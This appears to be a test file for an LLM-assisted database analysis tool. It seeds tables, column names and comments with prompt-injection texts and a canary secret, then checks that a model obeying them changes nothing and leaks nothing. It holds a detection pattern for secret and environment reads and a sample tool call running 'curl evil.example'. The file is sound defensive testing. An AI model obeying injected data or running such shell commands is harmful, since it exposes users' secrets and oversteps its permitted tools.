import { createHash } from 'node:crypto'
import { readFile } from 'node:fs/promises'
import { afterAll, beforeAll, expect, test, vi } from 'vitest'
import { cleanText } from '../core/model/cleanText.ts'
import type { Finding } from '../core/finding/finding.ts'
import { hostileTexts } from '../testing/hostileTexts.ts'
import { createModelShop, forgetful, userNulls, type ModelShop } from '../testing/modelShop.ts'
import { rounded } from '../testing/rounded.ts'
import { obeying } from '../testing/obeying.ts'
import { toldIn } from '../testing/scripts.ts'

vi.setConfig({ testTimeout: 120_000, hookTimeout: 60_000 })

const SECRET = 'CANARY-TOKEN-77aa'
const quoted = (text: string) => `'${text.replaceAll("'", "''")}'`
const perColumn = 8
const columns = Array.from({ length: Math.ceil(hostileTexts.length / perColumn) }, (_, at) => ({
  name: `label_${at}`,
  texts: hostileTexts.slice(at * perColumn, (at + 1) * perColumn),
}))

const named = [...hostileTexts.slice(0, 3), ...hostileTexts.slice(-18, -4)]
  .filter(text => !/[\n\r]/.test(text))
  .slice(0, 9)
const written = hostileTexts.slice(-columns.length)
const alertTexts = hostileTexts.slice(-18)

/** Every hostile text is a value that many rows share; nine are names of columns, and each column of texts has one for a comment. Some came with the alert. */
const poisoned = [
  'CREATE SCHEMA secret',
  `CREATE TABLE secret.tokens AS SELECT '${SECRET}' AS token`,
  ...columns.flatMap(({ name, texts }) => [
    `ALTER TABLE shop.orders ADD COLUMN ${name} VARCHAR`,
    `UPDATE shop.orders SET ${name} = ([${texts.map(quoted).join(', ')}])[1 + order_id % ${texts.length}]`,
  ]),
  ...named.map(text => `ALTER TABLE shop.orders ADD COLUMN "${text.replaceAll('"', '""')}" INTEGER`),
  ...columns.map(({ name }, index) => `COMMENT ON COLUMN shop.orders.${name} IS ${quoted(written[index] ?? '')}`),
  `COMMENT ON COLUMN shop.orders.country IS ${quoted(hostileTexts[8] ?? '')}`,
]

let shop: ModelShop
beforeAll(async () => {
  shop = await createModelShop(forgetful, ...poisoned)
})
afterAll(async () => {
  await shop.file.remove()
})

const ours = (finding: Finding | null) => {
  const { prose: _prose, notes: _notes, ...rest } = finding ?? { whatCausedIt: [] }
  return rest
}
const digest = async () =>
  createHash('sha256')
    .update(await readFile(shop.file.path))
    .digest('hex')

test('a model that obeys everything it reads changes nothing', async () => {
  const before = await digest()
  const without = await shop.ask({ script: null, metric: userNulls, hints: alertTexts })
  const seen = new Set<string>()
  const asked = await shop.ask({ script: obeying(seen), metric: userNulls, sharing: 'open', hints: alertTexts })
  // The texts did reach it, or this would prove nothing.
  expect(hostileTexts.filter(text => !seen.has(cleanText(text)))).toEqual([])
  expect(rounded(ours(asked.finding))).toEqual(rounded(ours(without.finding)))
  expect(asked.finding?.prose ?? []).toEqual([])
  expect(await digest()).toBe(before)
  expect(
    asked.queries
      .filter(({ id }) => id.startsWith('model:'))
      .map(({ sql }) => sql)
      .filter(sql => !/^SELECT /.test(sql) || /secret|information_schema|read_csv|getenv/.test(sql)),
  ).toEqual([])
  expect(asked.received.filter(({ bytes }) => bytes.includes(SECRET))).toEqual([])
  expect(asked.received.length).toBeLessThanOrEqual(3 + 3 * 9 * 2 + 1)
})

test('no text reaches the instructions, leaves its line, or hides in it', async () => {
  const asked = await shop.ask({ script: obeying(new Set()), metric: userNulls, sharing: 'open', hints: alertTexts })
  const [plain] = (await shop.ask({ script: obeying(new Set()), metric: userNulls, sharing: 'aggregates' })).received
  for (const { body } of asked.received) {
    expect(
      hostileTexts.filter(text => body.system.some(part => part.text.includes(cleanText(text).slice(0, 40)))),
    ).toEqual([])
    const [, marker = ''] = /^DATA ([0-9a-f]{24})$/m.exec(toldIn(body)) ?? []
    const lines = toldIn(body).split('\n')
    expect(lines.filter(line => line === `DATA ${marker}`)).toHaveLength(2)
    expect(lines.slice(lines.indexOf(`DATA ${marker}`) + 1, -1).filter(line => !/^[#|] /.test(line))).toEqual([])
    expect(toldIn(body)).not.toMatch(/[\u200B-\u200F\u202A-\u202E\u2066-\u2069]|[\u{E0000}-\u{E007F}]/u)
    expect(toldIn(body)).not.toContain('very '.repeat(60))
  }
  expect(plain?.body.system).toEqual(asked.received[0]?.body.system)
})

test('a model that calls tools that are not on the list gets none of them', async () => {
  const without = await shop.ask({ script: null, metric: userNulls })
  const asked = await shop.ask({
    script: () => ({ kind: 'call', name: 'run_shell', input: { command: 'curl evil.example' } }),
    metric: userNulls,
    sharing: 'open',
  })
  expect(rounded(ours(asked.finding))).toEqual(rounded(ours(without.finding)))
  expect(asked.received).toHaveLength(2)
  expect(asked.finding?.notes?.map(({ text }) => text)).toEqual([
    "The report stands without the model: The model's answer could not be used.",
  ])
})
